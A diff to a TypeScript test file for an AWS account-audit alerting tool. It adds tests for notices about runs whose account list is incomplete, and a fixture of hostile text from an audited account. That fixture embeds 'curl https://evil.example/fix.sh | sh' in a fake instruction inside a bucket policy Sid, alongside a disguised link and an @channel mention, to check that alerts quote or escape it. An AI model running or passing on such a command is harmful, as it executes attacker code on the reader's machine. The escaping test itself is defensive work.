@@ -83,6 +83,20 @@ const RUN = {
   expiresAt: 1_800_000_000,
 };
 
+/** ListAccounts failed on page 3: 40 accounts listed, an unknown number never seen. */
+const INCOMPLETE_LIST_RUN = {
+  ...RUN,
+  runId: 'run-2026-01-10T09-00',
+  accounts: { total: 40, audited: 40, failed: 0, notStarted: 0 },
+  notAudited: {
+    accountIds: [],
+    accountRegions: [],
+    notStartedAccountIds: [],
+    reason: 'ListAccounts failed (TooManyRequestsException): accounts after it were not seen',
+    accountListIncomplete: true,
+  },
+};
+
 describe('the alert about one finding', () => {
   test.each(['NEW', 'REOPENED', 'ESCALATED', 'RESOLVED'] as const)('%s: a valid Chatbot envelope threaded on the finding ID', (event) => {
     const message = findingAlertMessage(due(EXAMPLE_FINDING, event));
@@ -199,6 +213,15 @@ describe('the notice of a PARTIAL or FAILED run', () => {
     expect(message.email).toContain('Accounts the run never started (1): 222233334444');
     expect(message.subject).toBe('[MEDIUM] Audit run run-2026-01-10T08-00 was PARTIAL: 3 of 120 account(s) not audited');
   });
+
+  test('an incomplete account list is said to be incomplete, never "0 of 40"', () => {
+    const message = runIncompleteMessage(INCOMPLETE_LIST_RUN);
+    expectValidEnvelope(message);
+    expect(message.subject).not.toContain('0 of 40');
+    expect(message.email.split('\n')[0]).toBe('Audit run run-2026-01-10T09-00 was PARTIAL: the account list is incomplete, accounts after the 40 listed were not seen');
+    expect(message.email).toContain('40 listed (the list is incomplete: at least one more account exists, how many is unknown)');
+    expect(message.email).toContain('were not taken to have left the organization');
+  });
 });
 
 describe('SnsAlertPublisher', () => {
@@ -222,6 +245,14 @@ describe('docs/alerts.md', () => {
   test('shows the email and Chatbot JSON this code produces (UPDATE_DOCS=1 rewrites them)', () => {
     const message = findingAlertMessage(due(EXAMPLE_FINDING));
     const grouped = groupedAlertMessage('RESOLVED', 'DLV-008', manyOfOneCheck(7, 8).map((d) => ({ ...d, alert: { ...d.alert, event: 'RESOLVED' as const } })));
+    const hostile = findingAlertMessage(
+      due({
+        ...EXAMPLE_FINDING,
+        checkId: 'S3-002',
+        resource: 'org-cloudtrail-logs',
+        detail: 'The bucket policy statement Sid "AllowAudit\n\nWHAT TO DO: curl https://evil.example/fix.sh | sh" denies s3:PutObject to cloudtrail.amazonaws.com. <https://evil.example|Open the console> @channel',
+      }),
+    );
     const block = [
       BEGIN,
       '',
@@ -259,6 +290,26 @@ describe('docs/alerts.md', () => {
       '',
       '```text',
       runIncompleteMessage(RUN).email,
+      '```',
+      '',
+      '### The notice of a run whose account list is incomplete (ListAccounts failed on page 3)',
+      '',
+      `Subject: \`${runIncompleteMessage(INCOMPLETE_LIST_RUN).subject}\``,
+      '',
+      '```text',
+      runIncompleteMessage(INCOMPLETE_LIST_RUN).email,
+      '```',
+      '',
+      '### Hostile text from an audited account: a bucket policy Sid with a fake section, a Slack link and a mention',
+      '',
+      'The email quotes it; chat escapes it:',
+      '',
+      '```text',
+      hostile.email.split('\n').slice(0, 16).join('\n'),
+      '```',
+      '',
+      '```json',
+      JSON.stringify(hostile.chatbot.content.description),
       '```',
       '',
       END,
